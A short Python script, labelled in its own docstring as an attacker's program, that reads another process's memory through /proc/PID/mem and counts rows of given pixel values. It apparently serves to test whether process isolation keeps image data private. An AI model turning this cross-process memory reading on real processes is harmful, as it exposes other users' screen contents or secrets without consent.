"""An attacker's program: counts rows of pixels in the memory of another process.

``python3 memory_reader.py PID PIXEL…`` with each pixel as eight hexadecimal digits, in the order of
its bytes. It prints how many rows of 32 such pixels it found of each, and stands on the standard
library alone so that any user can run it.
"""

import sys
from pathlib import Path

_ROW = 32
_PIECE = 1 << 24


def main(pid: str, *pixels: str) -> None:
    """Search all memory of a process that can be read. Raises PermissionError where none can."""
    rows = [bytes.fromhex(pixel) * _ROW for pixel in pixels]
    found = [0] * len(rows)
    with Path(f"/proc/{pid}/mem").open("rb", buffering=0) as memory:
        for line in Path(f"/proc/{pid}/maps").read_text().splitlines():
            span, rights, *_ = line.split()
            start, end = (int(address, 16) for address in span.split("-"))
            if not rights.startswith("r"):
                continue
            for place in range(start, end, _PIECE):
                try:
                    memory.seek(place)
                    piece = memory.read(min(_PIECE, end - place))
                except (OSError, ValueError, OverflowError):
                    break  # a device's memory, or the kernel's own page
                found = [count + piece.count(row) for count, row in zip(found, rows, strict=True)]
    print(*found)


if __name__ == "__main__":
    main(*sys.argv[1:])
